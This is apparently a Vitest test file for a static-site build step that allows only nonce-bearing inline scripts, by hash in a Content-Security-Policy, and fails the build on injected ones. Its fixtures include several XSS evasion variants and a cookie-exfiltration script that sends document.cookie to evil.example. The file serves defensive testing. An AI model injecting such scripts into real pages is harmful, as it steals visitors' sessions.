// Which inline scripts of a pre-rendered page its policy allows: exactly those carrying the
// build's nonce. Anything else a browser would run, however much it looks like the site's own,
// fails the build.
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { inlineScripts, sortPageScripts } from '../../scripts/inline-scripts.ts';
import { writeStaticHostFiles } from '../../scripts/static-host-files.ts';
import { scriptHash } from '../../server/security-headers.ts';

const NONCE = 'this-build-only';
const THEME = "document.documentElement.classList.toggle('dark',true)";
// Stands for the framework's own inline data script.
const CONTEXT = 'window.routerContext = {"basename":"/"};';
const LD_JSON = '{"@context":"https://schema.org","@type":"Organization"}';

/** A page as the pre-render writes it: the site's scripts carry the nonce. */
const page = (extra = '') =>
  `<!DOCTYPE html><html><head><meta charSet="utf-8"/><script nonce="${NONCE}">${THEME}</script>` +
  `<script type="application/ld+json">${LD_JSON}</script></head><body><main>${extra}</main>` +
  `<script nonce="${NONCE}">${CONTEXT}</script>` +
  `<script type="module" async="" nonce="${NONCE}">import("/assets/entry.client-1.js");</script>` +
  `<script src="/assets/chunk-2.js"></script></body></html>`;

describe('sortPageScripts', () => {
  it("allows the site's own scripts by hash, skips JSON-LD and external files, drops the nonce", () => {
    const sorted = sortPageScripts(page(), NONCE);

    expect(sorted.foreign).toEqual([]);
    expect(sorted.scriptHashes).toEqual([
      scriptHash(THEME),
      scriptHash(CONTEXT),
      scriptHash('import("/assets/entry.client-1.js");'),
    ]);
    expect(sorted.html).not.toContain('nonce');
    expect(sorted.html).toBe(page().replaceAll(` nonce="${NONCE}"`, ''));
  });

  it.each([
    ['a plain script', '<script>alert(1)</script>'],
    ['one imitating the framework’s own', `<script>${CONTEXT}alert(1)</script>`],
    ['one with another nonce', '<script nonce="guessed">alert(1)</script>'],
    ['one whose src is only part of another attribute', '<script data-src="x">alert(1)</script>'],
    ['one in capitals', '<SCRIPT>alert(1)</SCRIPT>'],
    ['a module', '<script type="module">alert(1)</script>'],
    ['one with a type a browser runs', '<script type="text/javascript">alert(1)</script>'],
    ['one hiding its end tag in quotes', '<script title="a>b">alert(1)</script>'],
    [
      'one with the nonce inside another attribute',
      `<script title='nonce="${NONCE}"'>alert(1)</script>`,
    ],
  ])('refuses an injected script: %s', (_name, injected) => {
    const sorted = sortPageScripts(page(injected), NONCE);

    expect(sorted.foreign).toHaveLength(1);
    expect(sorted.foreign[0]).toContain('alert(1)');
    expect(sorted.scriptHashes).not.toContain(scriptHash('alert(1)'));
  });

  it('refuses a script of its own whose end a browser could read elsewhere (<!-- in it)', () => {
    const html = page(`<script nonce="${NONCE}">var a = "<!--";</script>`);

    expect(sortPageScripts(html, NONCE).foreign).toEqual(['<script>var a = "<!--";</script>']);
  });

  it('reads attributes as a browser does', () => {
    const [script] = inlineScripts(
      `<script\ntype = 'module' async nonce=abc data-x="a > b">run()</script >`,
    );

    expect(script).toEqual({
      attributes: { type: 'module', async: true, nonce: 'abc', 'data-x': 'a > b' },
      body: 'run()',
    });
  });
});

describe('a build with a page holding an injected script', () => {
  let folder: string;
  const site = {
    sanityProjectId: null,
    contactApiUrl: '/v1/contact',
    siteUrl: 'https://x.example',
  };
  const injected = page(
    '<p>Our story</p><script>fetch("https://evil.example/?" + document.cookie)</script>',
  );

  beforeAll(async () => {
    folder = await mkdtemp(path.join(os.tmpdir(), 'inline-scripts-'));
    for (const [route, html] of [
      ['/', page()],
      ['/about', injected],
    ] as const) {
      const file = path.join(folder, route, 'index.html');
      await mkdir(path.dirname(file), { recursive: true });
      await writeFile(file, html);
    }
  });

  afterAll(() => rm(folder, { recursive: true, force: true }));

  it('fails, naming the page and the script, and changes no file', async () => {
    const failure = await writeStaticHostFiles(folder, site, NONCE).then(
      () => undefined,
      (error: unknown) => String(error),
    );

    expect(failure).toContain('Some pages hold inline scripts the site did not write');
    expect(failure).toContain(
      '/about: <script>fetch("https://evil.example/?" + document.cookie)</script>',
    );
    expect(await readFile(path.join(folder, 'about', 'index.html'), 'utf8')).toBe(injected);
    expect(await readFile(path.join(folder, 'index.html'), 'utf8')).toBe(page());
  });

  it('writes every page with a policy of its own scripts once the script is gone', async () => {
    await writeFile(path.join(folder, 'about', 'index.html'), page());

    await writeStaticHostFiles(folder, site, NONCE);

    const about = await readFile(path.join(folder, 'about.html'), 'utf8');
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(about)?.[1];
    expect(policy).toContain(
      `script-src 'self' ${scriptHash(THEME)} ${scriptHash(CONTEXT)} ${scriptHash('import("/assets/entry.client-1.js");')};`,
    );
    expect(about).not.toContain('nonce');
  });
});
